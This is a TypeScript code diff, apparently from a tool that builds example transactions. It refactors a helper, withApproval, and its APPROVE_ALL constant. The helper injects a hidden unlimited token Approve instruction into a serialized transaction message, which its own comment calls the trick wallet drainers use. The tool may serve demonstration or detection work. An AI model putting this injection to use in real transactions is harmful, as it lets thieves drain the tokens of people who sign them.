@@ -41,7 +41,7 @@ export async function buildExample(console: Console, example: Example): Promise<
 }
 
 /** First byte of the token program's Approve instruction, and its amount: every token there is. */
-const APPROVE_ALL = Uint8Array.of(4, ...new Array<number>(8).fill(0xff));
+const APPROVE_ALL = [4, 255, 255, 255, 255, 255, 255, 255, 255] as const;
 
 /**
  * Appends the instruction that drainers hide: an approval that lets a thief spend every token of an account.
@@ -78,7 +78,13 @@ export function withApproval(
     ...message.subarray(keysEnd, keysEnd + 32),
     (message[keysEnd + 32] ?? 0) + 1,
     ...message.subarray(keysEnd + 33),
-    ...[program, 3, source, count, 0, APPROVE_ALL.length, ...APPROVE_ALL],
+    program,
+    3,
+    source,
+    count,
+    0,
+    APPROVE_ALL.length,
+    ...APPROVE_ALL,
   );
   return encodeBase64(changed);
 }
